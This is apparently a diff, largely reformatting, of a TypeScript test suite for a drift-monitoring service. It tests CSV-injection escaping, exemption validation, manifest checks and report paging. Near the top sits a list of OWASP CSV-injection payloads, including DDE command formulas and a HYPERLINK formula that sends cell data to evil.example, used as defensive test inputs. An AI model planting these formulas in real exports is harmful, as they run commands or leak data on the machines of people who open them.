@@ -24,11 +24,11 @@ const STORES: { name: string; open: () => Promise<Store>; skip: boolean }[] = [
 
 /** OWASP's CSV injection payloads, and the same after a separator a `;` locale splits cells at. */
 const OWASP = [
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-  '+SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
@@ -66,7 +66,13 @@ for (const { name, open, skip } of STORES) {
         expect(r.status, r.text).toBe(200);
         expect(r.body).toMatchObject({ status: 'accepted', state: 'tainted' });
         expect(await h.store.listHostDeviations('evil-1')).toEqual([
-          expect.objectContaining({ key: `/usr/bin/sshd${c}backdoor`, change: 'added', severity: 'critical', action: 'taint', decidedBy: 'rule:default/system-files' }),
+          expect.objectContaining({
+            key: `/usr/bin/sshd${c}backdoor`,
+            change: 'added',
+            severity: 'critical',
+            action: 'taint',
+            decidedBy: 'rule:default/system-files',
+          }),
         ]);
         expect((await honest.scan()).body.state).toBe('clean');
         expect((await h.host('web-1')).state).toBe('clean');
@@ -74,17 +80,29 @@ for (const { name, open, skip } of STORES) {
     });
 
     describe('fleet-wide catch-all exemptions', () => {
-      const exempt = (body: Record<string, unknown>) => h.req('POST', '/api/v1/exemptions', { token: h.tokens.operator, body: { reason: 'INC-1', for: '1h', ...body } });
+      const exempt = (body: Record<string, unknown>) =>
+        h.req('POST', '/api/v1/exemptions', {
+          token: h.tokens.operator,
+          body: { reason: 'INC-1', for: '1h', ...body },
+        });
 
-      it.each(['/*/**', '/**', '**', '/**/*', '**/*'])('"%s" without a host or image is refused with 400 naming the pattern, and nothing is stored', async (keyPattern) => {
-        for (const collector of [undefined, 'files']) {
-          const r = await exempt({ keyPattern, ...(collector ? { collector } : {}) });
-          expect(r.status).toBe(400);
-          expect(r.body).toMatchObject({ error: 'DW_ERR_VALIDATION', message: expect.stringContaining(`keyPattern: "${keyPattern}" is a catch-all (it matches every files key)`) });
-        }
-        expect(await h.store.listExemptions({})).toEqual([]);
-        expect((await h.store.listAudit({ limit: 100 })).filter((a) => a.action === 'exemption.create')).toEqual([]);
-      });
+      it.each(['/*/**', '/**', '**', '/**/*', '**/*'])(
+        '"%s" without a host or image is refused with 400 naming the pattern, and nothing is stored',
+        async (keyPattern) => {
+          for (const collector of [undefined, 'files']) {
+            const r = await exempt({ keyPattern, ...(collector ? { collector } : {}) });
+            expect(r.status).toBe(400);
+            expect(r.body).toMatchObject({
+              error: 'DW_ERR_VALIDATION',
+              message: expect.stringContaining(
+                `keyPattern: "${keyPattern}" is a catch-all (it matches every files key)`,
+              ),
+            });
+          }
+          expect(await h.store.listExemptions({})).toEqual([]);
+          expect((await h.store.listAudit({ limit: 100 })).filter((a) => a.action === 'exemption.create')).toEqual([]);
+        },
+      );
 
       it('the same pattern scoped to one host is accepted, and a narrow fleet-wide one too', async () => {
         expect((await exempt({ keyPattern: '/*/**', hostId: 'web-1' })).status).toBe(201);
@@ -99,17 +117,21 @@ for (const { name, open, skip } of STORES) {
         const honest = await h.enroll('web-1');
         await evil.scan();
         await honest.scan();
-        for (const [i, p] of OWASP.entries()) evil.write(`/home/alice/${i};${p}`, 'x').write(`/home/alice/n${i}\n${p}`, 'x');
+        for (const [i, p] of OWASP.entries())
+          evil.write(`/home/alice/${i};${p}`, 'x').write(`/home/alice/n${i}\n${p}`, 'x');
         evil.write(`/home/alice/${OWASP[0]}`, 'x');
         await evil.scan();
         await honest.write('/home/bob/notes.txt', 'todo\n').scan();
         const r = await h.get('/api/v1/drift-report?scope=fleet&format=csv');
         expect(r.status).toBe(200);
-        for (const line of r.text.split('\r\n')) for (const piece of pieces(line)) expect(piece, JSON.stringify(line)).not.toMatch(FORMULA);
+        for (const line of r.text.split('\r\n'))
+          for (const piece of pieces(line)) expect(piece, JSON.stringify(line)).not.toMatch(FORMULA);
         // Nothing is lost: every deviation is a row, and the honest host's row is as it was.
         const rows = (await h.store.listHostDeviations('evil-1')).length + 1;
         expect(r.text.split('\r\n')).toHaveLength(1 + rows + 1);
-        expect(r.text).toContain('\r\nweb-1,web-1.example.internal,ami-web-1,,drifted,files,/home/bob/notes.txt,added,medium,report,rule:default/home-directories,,');
+        expect(r.text).toContain(
+          '\r\nweb-1,web-1.example.internal,ami-web-1,,drifted,files,/home/bob/notes.txt,added,medium,report,rule:default/home-directories,,',
+        );
       });
 
       it('cells: a leading trigger and one after ; , tab or a line break get an apostrophe; other text is untouched', () => {
@@ -125,12 +147,22 @@ for (const { name, open, skip } of STORES) {
     });
 
     describe('a manifest with no items', () => {
-      const empty: Sections = { packages: { items: [] }, sysctl: { items: [] }, cron: { items: [] }, files: { items: [] } };
+      const empty: Sections = {
+        packages: { items: [] },
+        sysctl: { items: [] },
+        cron: { items: [] },
+        files: { items: [] },
+      };
 
       it('is refused at publish, signed by a trusted key or not, and nothing is stored', async () => {
         const r = await h.publish(bakeManifest('ami-empty-1', h.key.privateKey, empty));
         expect(r.status).toBe(400);
-        expect(r.body).toMatchObject({ error: 'DW_ERR_MANIFEST_INVALID', message: expect.stringMatching(/^manifest of ami-empty-1 has no items in any section \(packages, sysctl, cron, files\)/) });
+        expect(r.body).toMatchObject({
+          error: 'DW_ERR_MANIFEST_INVALID',
+          message: expect.stringMatching(
+            /^manifest of ami-empty-1 has no items in any section \(packages, sysctl, cron, files\)/,
+          ),
+        });
         expect(await h.store.getManifest('ami-empty-1')).toBeNull();
         const app = await h.buildApp({ config: { allowUnsignedManifests: true } });
         try {
@@ -143,7 +175,9 @@ for (const { name, open, skip } of STORES) {
       });
 
       it('one empty section is an image without, say, cron jobs: accepted', async () => {
-        const r = await h.publish(bakeManifest('ami-nocron-1', h.key.privateKey, { ...empty, files: { items: [file('/etc/motd', 'hi\n')] } }));
+        const r = await h.publish(
+          bakeManifest('ami-nocron-1', h.key.privateKey, { ...empty, files: { items: [file('/etc/motd', 'hi\n')] } }),
+        );
         expect(r.status, r.text).toBe(201);
       });
     });
@@ -164,7 +198,11 @@ for (const { name, open, skip } of STORES) {
 
       it.each(['json', 'csv', 'jsonl'] as const)('%s: the same bytes, page by page', async (format) => {
         await fleet();
-        for (const scope of [{ kind: 'fleet' }, { kind: 'image', id: 'ami-web-1' }, { kind: 'host', id: 'web-0' }] as ReportScope[]) {
+        for (const scope of [
+          { kind: 'fleet' },
+          { kind: 'image', id: 'ami-web-1' },
+          { kind: 'host', id: 'web-0' },
+        ] as ReportScope[]) {
           const q = scope.kind === 'fleet' ? 'scope=fleet' : `scope=${scope.kind}&id=${scope.id}`;
           const r = await h.get(`/api/v1/drift-report?${q}&format=${format}`);
           expect(r.status).toBe(200);
@@ -177,15 +215,26 @@ for (const { name, open, skip } of STORES) {
       it('json with no deviations at all is the same document too', async () => {
         await h.enroll('web-1').then((s) => s.scan());
         const r = await h.get('/api/v1/drift-report?scope=fleet&format=json');
-        expect(r.text).toBe(renderReport((await buildDriftReport(h.store, { kind: 'fleet' }, h.clock.now())).report, 'json').body);
+        expect(r.text).toBe(
+          renderReport((await buildDriftReport(h.store, { kind: 'fleet' }, h.clock.now())).report, 'json').body,
+        );
         expect(r.body.deviations).toEqual([]);
       });
 
       it('jsonl: one deviation per line, every one of them', async () => {
         await fleet();
-        const lines = (await h.get('/api/v1/drift-report?scope=fleet&format=jsonl')).text.trimEnd().split('\n').map((l) => JSON.parse(l) as { hostId: string; key: string });
+        const lines = (await h.get('/api/v1/drift-report?scope=fleet&format=jsonl')).text
+          .trimEnd()
+          .split('\n')
+          .map((l) => JSON.parse(l) as { hostId: string; key: string });
         expect(lines).toHaveLength((await h.store.listDeviations({ limit: 1000 })).length);
-        expect(lines.filter((l) => l.key === 'openssl:amd64').map((l) => l.hostId)).toEqual(['web-0', 'web-1', 'web-2', 'web-3', 'web-4']);
+        expect(lines.filter((l) => l.key === 'openssl:amd64').map((l) => l.hostId)).toEqual([
+          'web-0',
+          'web-1',
+          'web-2',
+          'web-3',
+          'web-4',
+        ]);
       });
 
       it('html: pages of `limit` deviations linked by a next cursor, every deviation on exactly one page', async () => {
@@ -198,7 +247,11 @@ for (const { name, open, skip } of STORES) {
           const r = await h.get(url);
           expect(r.status, r.text).toBe(200);
           pages++;
-          const rows = [...r.text.matchAll(/<tr><td>(web-\d)\.example\.internal<\/td><td>[a-z-]+<\/td><td>[a-z]+<\/td><td>[a-z]+<\/td><td>([^<]*)<\/td>/g)].map((m) => `${m[1]} ${m[2]!.replaceAll('&lt;', '<').replaceAll('&#39;', "'")}`);
+          const rows = [
+            ...r.text.matchAll(
+              /<tr><td>(web-\d)\.example\.internal<\/td><td>[a-z-]+<\/td><td>[a-z]+<\/td><td>[a-z]+<\/td><td>([^<]*)<\/td>/g,
+            ),
+          ].map((m) => `${m[1]} ${m[2]!.replaceAll('&lt;', '<').replaceAll('&#39;', "'")}`);
           expect(rows.length).toBeLessThanOrEqual(2);
           seen.push(...rows);
           const next = /<a href="(\?[^"]+)">Next page of deviations<\/a>/.exec(r.text);
